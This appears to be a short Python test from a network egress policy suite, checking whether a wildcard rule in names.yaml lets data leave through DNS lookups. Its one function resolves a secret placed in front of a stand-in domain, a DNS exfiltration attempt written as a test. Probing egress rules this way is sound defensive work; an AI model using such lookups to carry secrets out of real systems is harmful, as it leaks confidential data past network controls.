# class: network
# rule: outbound_connectivity
# policy: names.yaml
# open: a wildcard allows every name below it, and a name that an attacker owns there may carry data
# success: a name that carries data is asked below a wildcard
# proof: query
# needs: resolver
import socket

from attack import SECRET, attempt


@attempt
def ask():
    return socket.getaddrinfo(SECRET + ".a.b.wide.example", 443)
